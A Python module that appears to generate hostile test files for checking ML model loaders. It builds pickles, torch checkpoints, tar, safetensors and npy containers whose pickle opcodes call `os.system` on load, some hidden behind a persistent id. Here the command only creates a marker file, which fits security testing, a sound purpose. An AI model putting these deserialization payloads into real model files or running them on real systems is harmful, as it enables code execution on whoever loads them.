"""Bytes of pickles, archives and headers for the hostile files: each function builds one container.

The payload of every file is the same: it creates an empty file named `MARKER` in the current folder.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from typing import Any, NamedTuple

MARKER = "keng-acted"
COMMAND = f"touch {MARKER}"


class Hostile(NamedTuple):
    """`loader` names the program in `proofs.LOADERS` that acts when it loads the file; empty where no
    loader installed here does. `source` is the advisory or the idea that the file comes from."""

    file: str
    data: bytes
    kind: str
    loader: str
    source: str


class Act:
    """Pickles as a call of a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> Any:
        return self.call


def harm(protocol: int = 2) -> bytes:
    import os

    return pickle.dumps(Act(os.system, COMMAND), protocol)


def plain(value: Any, protocol: int = 2) -> bytes:
    return pickle.dumps(value, protocol)


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: str) -> bytes:
    """Opcodes of a call with arguments of type str."""
    pushed = b"".join(b"X" + struct.pack("<I", len(a)) + a.encode() for a in args)
    return global_(module, name) + b"(" + pushed + b"tR"


SYSTEM = call("os", "system", COMMAND)
STORAGE = b"(X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\0%cX\x03\0\0\0cpuK\x04tQ"
PERSISTENT = STORAGE % b"0" + b"0"
"""A persistent id that is popped again: a reader without storages stops here."""
TENSOR = (
    b"ctorch._utils\n_rebuild_tensor_v2\n("
    + STORAGE % b"0"
    + b"K\0K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
)


def late() -> bytes:
    """A pickle that acts behind a persistent id."""
    return b"\x80\x02" + PERSISTENT + SYSTEM + b"."


def legacy(body: bytes, keys: bytes = b"]", storages: bytes = b"") -> bytes:
    """torch.save before 1.6, with the given pickle as its object."""
    magic = plain(0x1950A86A20F9469CFC6C)
    info = plain({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2}})
    return magic + plain(1001) + info + body + b"\x80\x02" + keys + b"." + storages


def records(entries: dict[str, bytes], path: str = "a.pt") -> bytes:
    """An archive as torch writes it, byte for byte."""
    import os
    import tempfile

    import torch

    with tempfile.TemporaryDirectory() as folder:
        name = os.path.join(folder, path)
        writer = torch._C.PyTorchFileWriter(name)
        for entry, data in entries.items():
            writer.write_record(entry, data, len(data))
        writer.write_end_of_file()
        with open(name, "rb") as file:
            return file.read()


def saved(data_pkl: bytes, more: dict[str, bytes] | None = None) -> bytes:
    entries = {"data.pkl": data_pkl, "byteorder": b"little", "data/0": bytes(16)}
    return records(entries | (more or {}))


def zipped(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def unzipped(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def changed(data: bytes, changes: dict[str, bytes]) -> bytes:
    """An archive of torch written again with entries replaced or added; names without the root folder."""
    entries = {name.partition("/")[2]: entry for name, entry in unzipped(data)}
    entries |= changes
    kept = {n: e for n, e in entries.items() if not n.startswith(".data/")}
    kept.pop("version", None)
    return records(kept)


def safetensors(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + body


def member(name: bytes, data: bytes, **fields: bytes) -> bytes:
    """A tar header and its data; `fields` replace what tarfile would write."""
    head = bytearray(512)
    values = {
        "mode": b"0000644\0",
        "uid": b"0000000\0",
        "gid": b"0000000\0",
        "size": b"%011o\0" % len(data),
        "mtime": b"00000000000\0",
        "type": b"0",
        "link": b"",
        "magic": b"ustar\x0000",
        "prefix": b"",
    } | fields
    head[: len(name)] = name
    for key, at in (("mode", 100), ("uid", 108), ("gid", 116), ("size", 124), ("mtime", 136)):
        head[at : at + len(values[key])] = values[key]
    for key, at in (("type", 156), ("link", 157), ("magic", 257), ("prefix", 345)):
        head[at : at + len(values[key])] = values[key]
    total = sum(head[:148]) + 8 * 32 + sum(head[156:])
    signed = sum(b - 256 if b > 127 else b for b in (*head[:148], *head[156:])) + 8 * 32
    shape = values.get("check", b"%06o\0 ")
    number = signed if values.get("signed") else total
    head[148:156] = (shape % number if b"%" in shape else shape).ljust(8, b"\0")[:8]
    return bytes(head) + data + bytes(-len(data) % 512)


def tar_parts(value: bytes | None = None) -> dict[bytes, bytes]:
    """The three members of torch 0.1.6, with {"x": tensor} or the given pickle."""
    storage = (
        plain(1)
        + b"\x80\x02(K\x0bX\x03\x00\x00\x00cpuctorch\nFloatStorage\nt."
        + struct.pack("<q4f", 4, 1, 2, 3, 4)
        + plain([])
    )
    tensor = (
        plain(1)
        + b"\x80\x02(K\x16K\x0bctorch\nFloatTensor\nt."
        + struct.pack("<2i2q2qq", 2, 0, 2, 2, 2, 1, 0)
    )
    body = value or b"\x80\x02}X\x01\x00\x00\x00xX\x02\x00\x00\x0022Qs."
    return {b"storages": storage, b"tensors": tensor, b"pickle": body}


def tar(*members: bytes) -> bytes:
    data = b"".join(members)
    return data + bytes(-len(data) % tarfile.RECORDSIZE or tarfile.RECORDSIZE)


def clean_tar() -> list[bytes]:
    return [member(name, data) for name, data in tar_parts().items()]


def npy(header: bytes, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    text = header.ljust(117) + b"\n"
    size = struct.pack("<H" if version[0] == 1 else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + body
